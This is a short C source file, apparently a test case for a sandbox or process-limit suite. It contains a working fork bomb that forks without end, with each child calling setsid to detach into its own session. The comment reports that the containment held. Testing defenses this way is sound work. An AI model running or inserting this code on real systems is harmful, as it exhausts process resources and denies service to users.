/* Tries: to fill the machine with processes, each in a session of its own.
   Held: the report says that it makes processes without end; none is left a second later. */
#include "attack.h"

int main(void) {
    for (;;)
        if (fork() == 0)
            setsid();
}
